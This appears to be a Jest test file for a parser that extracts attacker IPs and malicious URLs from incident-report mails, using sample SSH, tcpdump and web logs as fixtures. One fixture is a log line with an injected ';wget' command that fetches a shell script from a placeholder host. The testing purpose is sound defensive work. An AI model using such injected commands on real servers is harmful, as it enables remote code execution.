import { describe, expect, it } from '@jest/globals';
import { mailOf, observablesIn, partOf } from '../../test/mailed-words.js';

/** Addresses and links that a mail from `cert@bank.example.org` with that subject and text reports. */
function reported(text: string, subject = 'report'): string[] {
  const mail = mailOf({ subject, from: { address: 'cert@bank.example.org', name: '' } });
  const observables = observablesIn(partOf(text, { mail }));
  return observables.filter(({ kind }) => /^(?:ip|url)/.test(kind)).map(({ value }) => value);
}

const failed = (address: string) =>
  `Mar  1 02:03:04 host sshd[1]: Failed password for root from ${address} port 22 ssh2`;

describe('telling who acted', () => {
  it('counts the other sources of the log that the named one stands in', () => {
    const log = `${failed('192.0.2.7')}\n${failed('192.0.2.8')}\n`;
    expect(reported(log, 'SSH attack from 192.0.2.7')).toEqual(['192.0.2.7', '192.0.2.8']);
  });

  it('leaves out neighbours of what was hit, and logs of very many sources', () => {
    const own = `192.0.2.7 attacked our server 198.51.100.4.\n${failed('192.0.2.7')}\n${failed('198.51.100.5')}\n`;
    expect(reported(own, 'SSH attack from 192.0.2.7')).toEqual(['192.0.2.7']);
    const many = Array.from({ length: 20 }, (_, at) => failed(`203.0.113.${at + 1}`));
    expect(reported([failed('192.0.2.7'), ...many].join('\n'), 'SSH attack from 192.0.2.7')).toEqual(['192.0.2.7']);
  });

  it.each([
    [
      '10:00:00 IP 192.0.2.7.4444 > 198.51.100.4.445: Flags [S]\n10:00:00 IP 198.51.100.4.445 > 192.0.2.7.4444: Flags [R.]',
    ],
    ['It came from 192.0.2.7 and hit mail.bank.example.org (198.51.100.4).'],
    ['The attacker 192.0.2.7 was seen by our internet scanner 198.51.100.4.'],
    ['192.0.2.7 runs ntpd 4.2.7.26, fixed in 4.2.8.1 (before 4.3.0.1).'],
    ['Kaynak IP: 192.0.2.7\nHedef IP: 198.51.100.4'],
    ['Source: 192 . 0 . 2 . 7'],
    ['ntpdc 192.0.2.7\nremote address  port local address  count m ver\n198.51.100.4  80 192.0.2.7  4 7 2'],
    ['198.51.100.4:80 192.0.2.7 - - [21/Nov/2026:10:00:00 +0100] "GET /.env HTTP/1.1" 404 12'],
    ['IP address of the hosting server: 192.0.2.7'],
    ['The stolen data is exfiltrated to 192.0.2.7.'],
  ])('reads %j as a report about one address', (text) => {
    expect(reported(text)).toEqual(['192.0.2.7']);
  });

  it('does not take what a reply quotes of earlier mails for its own', () => {
    const text =
      'Your server at 192.0.2.7 is still up.\n\nOn Monday, Desk <abuse@provider.example> wrote:\n> See 198.51.100.4.';
    expect(reported(text)).toEqual(['192.0.2.7']);
  });
});

describe('telling which links are reported', () => {
  it.each([
    [
      'what a request brings along',
      '192.0.2.7 - - [01/Mar/2026:02:03:04 +0000] "GET /?x=;wget+http://203.0.113.9/a.sh HTTP/1.1" 404 5 "http://shop.example.net/" "x"',
      ['192.0.2.7', '203.0.113.9', 'http://203.0.113.9/a.sh'],
    ],
    [
      'rows that begin with their time',
      '2026-03-01 02:03:04 http://evil.example.com/a.exe malware',
      ['http://evil.example.com/a.exe'],
    ],
    [
      'links without a space between',
      '网址：http://a.example.com、http://b.example.com/，请处理',
      ['http://a.example.com/', 'http://b.example.com/'],
    ],
    ['names with gaps', 'The site is pay . example . com/login, please look', ['http://pay.example.com/login']],
    [
      'none that is imitated',
      'http://evil.example.com/ is imitating https://shop.example.net/ here',
      ['http://evil.example.com/'],
    ],
    [
      'none that is official',
      'http://evil.example.com/ copies it; the real website of them is https://shop.example.net',
      ['http://evil.example.com/'],
    ],
    [
      'none that is only referred to',
      'http://evil.example.com/a is bad. See https://help.example.net/b',
      ['http://evil.example.com/a'],
    ],
    [
      'none that the letter ends with',
      'http://evil.example.com/a is bad.\n\nResponse Team\nTel. +1 555 0100 200\nWeb: https://team.example.net/',
      ['http://evil.example.com/a'],
    ],
    [
      'sites without a scheme',
      '仿冒网站：\n1、www.evil.example.com\n2、http://bad.example.com/x',
      ['http://bad.example.com/x', 'http://www.evil.example.com/'],
    ],
    [
      'none of the machine itself',
      'http://evil.example.com/a, tried with http://127.0.0.1:8080/ and http://10.0.0.8/',
      ['http://evil.example.com/a'],
    ],
  ])('names %s', (_, text, values) => {
    expect(
      reported(text)
        .map((value) => (URL.canParse(value) ? new URL(value).href : value))
        .toSorted(),
    ).toEqual(values);
  });
});
